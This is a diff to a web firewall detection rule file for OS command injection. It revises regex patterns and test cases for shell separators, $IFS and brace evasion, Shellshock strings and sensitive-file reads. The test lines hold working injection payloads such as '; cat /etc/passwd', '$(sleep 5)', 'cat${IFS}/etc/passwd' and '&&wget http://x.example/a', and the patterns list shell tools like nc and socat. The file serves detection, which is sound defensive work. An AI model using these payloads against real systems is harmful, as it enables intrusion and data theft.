@@ -3,6 +3,28 @@
 id: 300003001
 name: OS command injection: command after a shell separator
 type: OS Command Injection
+accuracy: high
+risk: high
+systems: Unix/Linux
+targets: @values, header, url, param-name
+literal: ;
+literal: |
+literal: &
+literal: `
+literal: $(
+literal: \n
+literal: \r
+regex: (?:[;|`\n\r]|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:whoami|uname|ifconfig|ipconfig|netstat|wget|curl|nc|ncat|netcat|socat|telnet|tftp|bash|sh|zsh|ksh|csh|tcsh|dash|busybox|python[23]?|perl|ruby|php|nslookup|ping|traceroute|chmod|chown|chgrp|rm|mkdir|rmdir|pkill|killall|crontab|useradd|usermod|sudo|nohup|xterm|nmap|base64|xxd|grep|egrep|awk|gawk|sed|gzip|unzip|openssl|mkfifo|mknod|sysctl|systemctl|lsof|getent|xargs|printenv|powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|wmic|schtasks|cmd|cmd\.exe|whoami\.exe|ifconfig|uptime|finger|shutdown|reboot|halt)(?:\s*$|[\s;|&`)'"<>]|\$\{?ifs|\$\(|\{)
+test: | whoami
+test: `uname -a`
+test: $(ping -c 3 127.0.0.1)
+test: &&wget http://x.example/a
+pass: Tom & Jerry; two cats
+pass: a heroine; more than that
+
+id: 300003008
+name: OS command injection: common command with arguments after a shell separator
+type: OS Command Injection
 accuracy: medium
 risk: high
 systems: Unix/Linux
@@ -14,13 +36,15 @@ literal: `
 literal: $(
 literal: \n
 literal: \r
-regex: (?:[;|`\n\r]|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:cat|tac|nl|more|less|head|tail|ls|dir|id|whoami|uname|hostname|ifconfig|ip\s+a|netstat|ps|pwd|env|printenv|wget|curl|nc|ncat|netcat|socat|telnet|ftp|tftp|ssh|scp|bash|sh|zsh|ksh|csh|tcsh|dash|busybox|python[23]?|perl|ruby|php|node|lua|nslookup|dig|host|ping|traceroute|sleep|echo|printf|touch|rm|mv|cp|chmod|chown|chgrp|mkdir|rmdir|kill|killall|pkill|crontab|useradd|usermod|passwd|sudo|su|nohup|xterm|nmap|base64|xxd|od|find|grep|egrep|awk|gawk|sed|sort|tr|cut|tar|zip|unzip|gzip|openssl|mkfifo|mknod|sysctl|systemctl|service|shutdown|reboot|halt|lsof|last|w|who|users|groups|getent|finger|uptime|whereis|which|type|set|export|eval|exec|xargs|timeout|time|expr|dd|strings|file|stat|shred|ln|alias|history|cmd|powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|net|reg|wmic|ipconfig|ver|vol|schtasks|sc|whoami\.exe|cmd\.exe)(?:\s*$|[\s;|&`)'"<>]|\$\{?ifs|\$\(|\{)
+regex: (?:[;|`\n\r]|&&?|\$\()\s*(?:\{\s*|\(\s*|!\s*)?(?:(?:/usr)?(?:/s?bin)?/|\\)?(?:cat|tac|nl|more|less|head|tail|ls|dir|id|pwd|env|ps|echo|printf|sleep|touch|mv|cp|kill|su|passwd|find|sort|tr|cut|tar|dd|strings|file|stat|ln|which|whereis|type|set|export|eval|exec|timeout|time|expr|net|reg|ver|vol|sc|hostname|w|who|last|users|groups|node|od|alias|history|zip|scp|ssh|ftp|lua)(?:\s*$|\s*[`)\\]|\s+[-/\\.$~'"<>{(`*%0-9]|\s+\w+(?:\s*(?:[;|&`\\]|$)|\$|\s+[-/]|\s*[<>])|\$\{?ifs|\$\(|\{|<|>)
 test: ; cat /etc/passwd
 test: | id
-test: `whoami`
+test: `id`
 test: $(sleep 5)
-test: &&ping -c 3 127.0.0.1
-pass: Tom & Jerry; two cats
+test: ;echo 123
+test: |ls -la
+pass: mammal;cat;ears
+pass: a heroine; more than that
 
 id: 300003002
 name: OS command injection: Unix shell paths and devices
@@ -52,10 +76,12 @@ literal: ${
 literal: $@
 literal: {
 literal: $'
-regex: \$\{?ifs\b|\$\{[a-z_]*:\s*-?\d+\s*:\s*\d+\s*\}|\$\{(?:path|home|shell|pwd|user|hostname)\b|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|rm|whoami|uname),[^}]+\}|\w\$@\w|\$'\\x[0-9a-f]{2}|\$\(\s*printf\b|[a-z]\$\{?[0-9#?*@!]\}?[a-z]
+literal: $(
+regex: \$\{?ifs\b|\$\{[a-z_]*:\s*-?\d+\s*:\s*\d+\s*\}|\$\{(?:path|home|shell|pwd|user|hostname)\b|\{(?:cat|ls|id|echo|wget|curl|nc|bash|sh|ping|rm|whoami|uname),[^}]+\}|\w\$@\w|\$'\\x[0-9a-f]{2}|\$\(\(\s*\d+\s*[-+*/%^]\s*\d+\s*\)\)|\$\(\s*[a-z_][\w.-]*(?:\s|\))|\$\(\s*printf\b|[a-z]\$\{?[0-9#?*@!]\}?[a-z]
 test: cat${IFS}/etc/passwd
 test: {cat,/etc/passwd}
 test: w$@hoami
+test: echo X$((50+41))$(echo X)
 pass: price is ${total}
 
 id: 300003004
@@ -133,10 +159,11 @@ systems: Unix/Linux
 targets: @all
 literal: ()
 literal: ( )
-regex: \(\s*\)\s*\{[\s\S]{0,200}?[;}]
+regex: \(\s*\)\s*\{[^}]{0,100}\}\s*(?:;|>|\|)
 test: () { :; }; echo vulnerable
 test: () { _; } >_[$($())] { id; }
 pass: f() returns
+pass: () { :; }just a test
 
 id: 300003007
 name: OS command injection: sensitive command with file argument
@@ -144,7 +171,7 @@ type: OS Command Injection
 accuracy: medium
 risk: high
 systems: Unix/Linux
-targets: @values, header, url, param-name
+targets: @values, header, url
 literal: cat
 literal: tac
 literal: more
@@ -163,8 +190,9 @@ literal: sleep
 literal: nslookup
 literal: curl
 literal: wget
-regex: ^\s*(?:cat|tac|more|less|head|tail|nl|strings|od|xxd|base64)\s+(?:-\w+\s+)*(?:/|~|\.\.?/|\$)|\b(?:cat|tac|more|head|tail|nl|ls|grep|find)\s+(?:-[a-z]+\s+)*(?:/etc/|/proc/|/var/|/root|/home/|/tmp/|~/|\.\./|\*)|^\s*(?:uname\s+-[a-z]+|id|whoami|pwd|ls(?:\s+-[a-z]+)?|ifconfig|hostname|ps\s+-?[aefux]+)\s*$|\bping\s+-[nc]\s*\d+\s|\bsleep\s+\d+\s*(?:[;&|#`)]|$)|\b(?:nslookup|dig|curl|wget)\s+[\w.-]*\$\(|\becho\s+[^\s;|&]+\s*[>|]\s*\S
+regex: ^\s*(?:ls|dir|cat|id|ps|find|grep|echo|ping|wget|curl|nc|uname|whoami|netstat|ifconfig)\s+(?:-[a-z]+\s*)+(?:[/~.]|$)|^\s*(?:cat|tac|more|less|head|tail|nl|strings|od|xxd|base64)\s+(?:-\w+\s+)*(?:/|~|\.\.?/|\$)|\b(?:cat|tac|more|head|tail|nl|ls|grep|find)\s+(?:-[a-z]+\s+)*(?:/etc/|/proc/|/var/|/root|/home/|/tmp/|~/|\.\./|\*)|^\s*(?:uname\s+-[a-z]+|whoami|ifconfig|ipconfig|ls\s+-[a-z]+|ps\s+-[aefux]+)\s*$|\bping\s+-[nc]\s*\d+\s|\bsleep\s+\d+\s*(?:[;&|#`)]|$)|\b(?:nslookup|dig|curl|wget)\s+[\w.-]*\$\(|\becho\s+[^\s;|&]+\s*[>|]\s*\S
 test: cat /etc/passwd
+test: ls -l /tmp
 test: uname -a
 test: ping -n 21 127.0.0.1
 pass: cat lovers unite
